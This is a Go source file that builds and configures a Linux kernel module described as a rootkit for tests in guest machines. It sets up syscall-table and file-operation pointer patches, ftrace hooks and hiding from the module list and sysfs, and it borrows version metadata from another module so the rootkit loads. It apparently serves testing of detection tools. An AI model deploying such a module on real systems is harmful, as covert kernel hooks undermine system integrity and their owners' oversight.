// Package rootkit makes a kernel module that behaves like a rootkit, for tests in guests.
//
// Start from Build, which compiles it for the kernel of another module, and Configure, which says what the module is to
// do. It needs gcc, but neither the kernel's headers nor its build system: a module is an object file, and what in it
// depends on the kernel is known from any other module of that kernel. Modules for other machines than x86-64 are refused.
package rootkit

import (
	"bytes"
	"context"
	"debug/elf"
	_ "embed"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

//go:embed rootkit.c
var source []byte

// A Replacement is what a patch puts into the kernel's memory.
type Replacement uint64

// The replacements: functions of the module that call what they replace.
const (
	Syscall Replacement = iota + 1
	Show                // of struct seq_operations
	Iterate             // of struct file_operations
)

// Ways to hide.
const (
	FromList = 1 << iota
	FromSysfs
)

// FtraceFunctions are what the module needs of the kernel to observe a function.
var FtraceFunctions = [3]string{"ftrace_set_filter_ip", "register_ftrace_function", "unregister_ftrace_function"}

// A Patch replaces the pointer at an address.
type Patch struct {
	Address uint64
	By      Replacement
}

// Settings say what the module does when it is loaded.
type Settings struct {
	Patches  []Patch   // at most 4
	Observed uint64    // address of a function for ftrace; 0: none
	Ftrace   [3]uint64 // addresses of FtraceFunctions
	Hide     uint64
	ListAt   uint64 // offset of the module's place in the list of modules, in struct module
	KsetAt   uint64 // and in that of /sys/module
}

// ErrMachine is for modules of machines for which there is no rootkit.
var ErrMachine = errors.New("it is not for x86-64")

const (
	magic   = 0x746573206b6f6f72
	patches = 4
)

// Configure returns the module with its settings.
func Configure(module []byte, s Settings) ([]byte, error) {
	at := bytes.Index(module, binary.LittleEndian.AppendUint64(nil, magic))
	if at < 0 || len(s.Patches) > patches {
		return nil, errors.New("rootkit: not its module, or too many patches")
	}
	words := make([]uint64, 1, 2*patches+8)
	words[0] = magic
	for i := range patches {
		var p Patch
		if i < len(s.Patches) {
			p = s.Patches[i]
		}
		words = append(words, p.Address, uint64(p.By))
	}
	words = append(words, s.Observed, s.Ftrace[0], s.Ftrace[1], s.Ftrace[2], s.Hide, s.ListAt, s.KsetAt)
	configured := bytes.Clone(module)
	for i, word := range words {
		binary.LittleEndian.PutUint64(configured[at+8*i:], word)
	}
	return configured, nil
}

// Build compiles the module into a file, for the kernel of another module.
func Build(ctx context.Context, other, to string) error {
	facts, err := learn(other)
	if err != nil {
		return fmt.Errorf("rootkit: learn from %s: %w", other, err)
	}
	file := filepath.Join(filepath.Dir(to), "rootkit.c")
	if err := os.WriteFile(file, source, 0o644); err != nil {
		return err
	}
	defer os.Remove(file)
	arguments := append(facts, strings.Fields("-O2 -Wall -Werror -std=gnu11 -ffreestanding -fno-pic -fno-pie -mcmodel=kernel "+
		"-mno-red-zone -mgeneral-regs-only -fno-stack-protector -fno-asynchronous-unwind-tables -fcf-protection=none "+
		"-fno-strict-aliasing -fno-common -c -o")...)
	output, err := exec.CommandContext(ctx, "gcc", append(arguments, to, file)...).CombinedOutput()
	if err != nil {
		return fmt.Errorf("rootkit: gcc: %w\n%s", err, output)
	}
	return nil
}

// learn reads from a module what is true of all modules of its kernel, as definitions for the compiler.
func learn(path string) ([]string, error) {
	file, err := elf.Open(path)
	if err != nil {
		return nil, err
	}
	defer file.Close()
	if file.Machine != elf.EM_X86_64 {
		return nil, ErrMachine
	}
	const structName = ".gnu.linkonce.this_module"
	section := func(name string) (data []byte) {
		if s := file.Section(name); s != nil && err == nil {
			data, err = s.Data()
		}
		return data
	}
	structure, info, versions := section(structName), section(".modinfo"), section("__versions")
	places, err := pointers(file, section(".rela"+structName))
	if err != nil {
		return nil, err
	}
	nameAt := bytes.IndexFunc(structure, func(r rune) bool { return r != 0 })
	vermagic, checksum := versionsOf(info, versions)
	if vermagic == "" || nameAt < 0 || places["init_module"] == 0 || places["cleanup_module"] == 0 {
		return nil, errors.New("it does not tell how modules look")
	}
	return []string{
		fmt.Sprintf("-DMODULE_SIZE=%d", len(structure)), fmt.Sprintf("-DNAME_AT=%d", nameAt),
		fmt.Sprintf("-DINIT_AT=%d", places["init_module"]), fmt.Sprintf("-DEXIT_AT=%d", places["cleanup_module"]),
		fmt.Sprintf("-DVERMAGIC=%q", vermagic), fmt.Sprintf("-DLAYOUT_CHECKSUM=%dUL", checksum),
	}, nil
}

// pointers returns where a section has pointers to which symbols, from its relocations.
func pointers(file *elf.File, entries []byte) (map[string]uint64, error) {
	symbols, err := file.Symbols()
	if err != nil {
		return nil, err
	}
	places := map[string]uint64{}
	for ; len(entries) >= 24; entries = entries[24:] {
		if symbol := binary.LittleEndian.Uint32(entries[12:]); symbol > 0 && int(symbol) <= len(symbols) {
			places[symbols[symbol-1].Name] = binary.LittleEndian.Uint64(entries)
		}
	}
	return places, nil
}

// versionsOf returns what a kernel demands of its modules: a text, and a checksum, 0 if it knows none.
func versionsOf(info, versions []byte) (vermagic string, checksum uint64) {
	for line := range bytes.SplitSeq(info, []byte{0}) {
		if magic, ok := bytes.CutPrefix(line, []byte("vermagic=")); ok {
			vermagic = string(magic)
		}
	}
	for ; len(versions) >= 64; versions = versions[64:] {
		if name, _, _ := bytes.Cut(versions[8:64], []byte{0}); string(name) == "module_layout" {
			checksum = binary.LittleEndian.Uint64(versions)
		}
	}
	return vermagic, checksum
}
